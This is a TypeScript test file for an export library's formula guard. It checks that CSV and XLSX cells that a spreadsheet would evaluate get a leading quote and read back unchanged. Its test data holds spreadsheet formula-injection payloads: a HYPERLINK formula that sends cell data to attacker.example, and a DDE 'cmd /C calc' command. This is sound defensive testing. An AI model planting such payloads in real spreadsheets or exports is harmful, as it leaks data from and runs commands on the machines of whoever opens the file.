import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, restoreFormula } from './formula-guard.ts';
import { createRecordWriter, readRecords } from './index.ts';
import { bytesOf, collect } from './test-streams.ts';

/** Texts a spreadsheet would evaluate, texts that only look close, and quotes before both. */
const TEXTS = [
  '=HYPERLINK("http://attacker.example/?x="&A2,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '\t=1',
  '\r=1',
  "'=1",
  "''@x",
  "'plain",
  "'",
  'plain',
  '',
  '-5',
  '-2.5e3',
  '- a dash',
  'a=b',
];

describe('formulas in exports', () => {
  it('quotes exactly the texts a spreadsheet would evaluate, and reads every text back', () => {
    expect(TEXTS.map(neutralizeFormula)).toEqual([
      `'=HYPERLINK("http://attacker.example/?x="&A2,"Click")`,
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'+1+1",
      "'-1+1",
      "'\t=1",
      "'\r=1",
      "''=1",
      "'''@x",
      "'plain",
      "'",
      'plain',
      '',
      '-5',
      '-2.5e3',
      "'- a dash",
      'a=b',
    ]);
    expect(TEXTS.map((text) => restoreFormula(neutralizeFormula(text)))).toEqual(TEXTS);
  });

  it('writes quoted CSV and XLSX cells that import back unchanged', async () => {
    // A column named after a code starting with '-' is quoted in the header too.
    const columns = ['code', 'name', 'count', '-dash'];
    const records = TEXTS.map((name, i) => ({ code: `P${i}`, name, count: -i, '-dash': '-' }));

    const csv = new PassThrough();
    const csvText = textOf(csv);
    const csvWriter = createRecordWriter(csv, 'csv', { columns });
    for (const record of records) await csvWriter.write(record);
    await csvWriter.close();
    const lines = (await csvText).split('\n');
    expect(lines[0]).toBe("code,name,count,'-dash");
    expect(lines[1]).toBe(`P0,"'=HYPERLINK(""http://attacker.example/?x=""&A2,""Click"")",0,'-`);
    expect(lines[2]).toBe(`P1,'@SUM(1+1)*cmd|' /C calc'!A0,-1,'-`);

    const xlsx = new PassThrough();
    const xlsxBytes = bytesFrom(xlsx);
    const xlsxWriter = createRecordWriter(xlsx, 'xlsx', { columns });
    for (const record of records) await xlsxWriter.write(record);
    await xlsxWriter.close();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsxBytes) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('B2').value).toBe(`'=HYPERLINK("http://attacker.example/?x="&A2,"Click")`);
    expect(sheet.getCell('B3').value).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(sheet.getCell('C3').value).toBe(-1);
    expect(sheet.getCell('D1').value).toBe("'-dash");

    const expected = records.map((record) => ({ ...record, count: String(record.count) }));
    const fromCsv = await collect(readRecords(bytesOf(await csvText), 'csv'));
    expect(fromCsv.map((record) => record.value)).toEqual(expected);
    const fromXlsx = await collect(readRecords(bytesOf(await xlsxBytes), 'xlsx'));
    // XML reads a carriage return in a cell as a line feed (the XLSX writer does not escape
    // it as _x000D_): that text alone cannot come back from XLSX, quote or not.
    const xlsxExact = (_: unknown, i: number) => !TEXTS[i]!.includes('\r');
    expect(fromXlsx.map((record) => record.value).filter(xlsxExact)).toEqual(
      expected.filter(xlsxExact),
    );
  });

  it("keeps a foreign file's quotes when asked to", async () => {
    const read = await collect(
      readRecords(bytesOf("code;name\nP1;'=1\n"), 'csv', { keepFormulaQuotes: true }),
    );
    expect(read[0]!.value).toEqual({ code: 'P1', name: "'=1" });
  });
});

function textOf(stream: PassThrough): Promise<string> {
  return bytesFrom(stream).then((bytes) => bytes.toString('utf8'));
}

function bytesFrom(stream: PassThrough): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    stream.on('end', () => resolve(Buffer.concat(chunks)));
    stream.on('error', reject);
  });
}
